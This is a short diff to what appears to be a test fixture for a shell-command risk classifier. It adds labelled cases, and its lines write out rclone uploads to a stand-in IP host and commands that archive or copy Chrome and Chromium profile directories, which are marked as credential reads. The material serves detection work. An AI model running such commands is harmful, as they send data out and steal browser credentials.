@@ -135,6 +135,8 @@ net:upload:public ← rclone copy src ':sftp,host=203.0.113.9,user=u:x'
 net:upload:public ← rclone sync src ":webdav,url='http://203.0.113.9/d':x"
 net:upload:known ← rclone copy src s3:bucket
 read:credential ← tar cf - ~/.config/google-chrome/Default
+read:credential ← cp -r ~/.config/chromium /tmp/x
 !read:credential ← cat ~/.config/google-chrome/Default/Bookmarks
+!read:credential ← cat config/default
 `)
 }
